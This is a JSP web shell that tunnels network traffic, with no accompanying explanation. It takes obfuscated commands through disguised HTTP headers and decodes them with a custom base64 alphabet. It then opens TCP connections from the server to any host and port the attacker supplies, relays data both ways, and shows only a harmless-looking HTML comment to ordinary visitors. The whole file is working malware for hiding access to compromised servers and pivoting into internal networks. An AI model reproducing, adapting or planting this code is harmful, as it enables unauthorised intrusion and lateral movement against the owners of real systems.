<%@page pageEncoding="UTF-8" import="java.nio.ByteBuffer, java.net.InetSocketAddress, java.nio.channels.SocketChannel, java.util.Arrays, java.io.*, java.net.UnknownHostException, java.net.Socket" trimDirectiveWhitespaces="true" %><%!
    public static String[] en = {"", ""};
    public static final String EN_TABLE = "QhZ6n0Ay8J5WvtS2Rj4KwTdfc7OXlFuE+oBGxbIP1k/pmeqNzgLrCDa9iVHYsUM3";
    public static final String DE_TABLE = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

    public static String b64de(String data) {
        StringBuilder sb = new StringBuilder();
        for (char ch : data.toCharArray()) {
            int i = EN_TABLE.indexOf(ch);
            sb.append(i < 0 ? ch : DE_TABLE.charAt(i));
        }
        return new String(java.util.Base64.getDecoder().decode(sb.toString()));
    }
%><%
    response.resetBuffer();
    String rUrl = request.getHeader("Ffydvg");
    if (rUrl != null) {
        rUrl = b64de(rUrl);
    }
    String cmd = request.getHeader("Xdnxmlbzbmvi");
    if (cmd == null) {
        out.print("<!-- 0a9c1e77f3 -->");
        return;
    }
    String mark = cmd.substring(0, 22);
    cmd = cmd.substring(22);
    if (cmd.compareTo("5Ex8mWkUrsQ") == 0) {
        String[] target_ary = b64de(request.getHeader("Yppbrm")).split("\\|");
        String target = target_ary[0];
        int port = Integer.parseInt(target_ary[1]);
        try {
            SocketChannel socketChannel = SocketChannel.open();
            socketChannel.connect(new InetSocketAddress(target, port));
            socketChannel.configureBlocking(false);
            application.setAttribute(mark, socketChannel);
            response.setHeader("Ctgnxj", "Nxr0Gm");
        } catch (Exception e) {
            response.setHeader("Ctgnxj", "wJtw3n");
        }
    } else if (cmd.compareTo("Ad8RVpHNLl") == 0) {
        SocketChannel socketChannel = (SocketChannel) application.getAttribute(mark);
        try { socketChannel.socket().close(); } catch (Exception e) { }
        application.removeAttribute(mark);
    } else if (cmd.compareTo("qWxo3qRlZUq") == 0) {
        SocketChannel socketChannel = (SocketChannel) application.getAttribute(mark);
        try {
            ByteBuffer buf = ByteBuffer.allocate(513);
            int bytesRead = socketChannel.read(buf);
            int maxRead = 524288;
            int readLen = 0;
            while (bytesRead > 0) {
                byte[] data = new byte[bytesRead];
                System.arraycopy(buf.array(), 0, data, 0, bytesRead);
                out.write(java.util.Base64.getEncoder().encodeToString(data));
                buf.clear();
                readLen += bytesRead;
                if (bytesRead < 513 || readLen >= maxRead) break;
                bytesRead = socketChannel.read(buf);
            }
            response.setHeader("Ctgnxj", "Nxr0Gm");
        } catch (Exception e) {
            response.setHeader("Ctgnxj", "wJtw3n");
        }
    } else if (cmd.compareTo("9dGfXqmbE1S") == 0) {
        SocketChannel socketChannel = (SocketChannel) application.getAttribute(mark);
        try {
            String inputData = "";
            InputStream in = request.getInputStream();
            byte[] buff = new byte[1024]; int n;
            while ((n = in.read(buff)) != -1) inputData += new String(buff, 0, n);
            byte[] base64 = b64de(inputData).getBytes("ISO-8859-1");
            ByteBuffer buf = ByteBuffer.wrap(base64);
            while (buf.hasRemaining()) socketChannel.write(buf);
            response.setHeader("Ctgnxj", "Nxr0Gm");
        } catch (Exception e) {
            response.setHeader("Ctgnxj", "wJtw3n");
        }
    }
%>
